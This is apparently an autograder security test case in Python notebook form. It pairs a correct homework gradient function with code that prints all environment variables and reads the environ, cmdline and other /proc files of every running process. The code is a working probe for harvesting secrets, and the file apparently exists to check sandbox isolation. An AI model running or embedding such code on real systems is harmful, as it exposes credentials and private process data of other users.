# /// attack
# tries = "reads the environment and command line of every process"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import os

print(dict(os.environ))
for process in ("self", *filter(str.isdecimal, os.listdir("/proc")), "@PID@"):
    for name in ("environ", "cmdline", "cwd", "root", "exe", "auxv", "status", "mountinfo"):
        path = f"/proc/{process}/{name}"
        try:
            print(path, os.readlink(path) if os.path.islink(path) else open(path, "rb").read())
        except OSError as error:
            print(path, error)
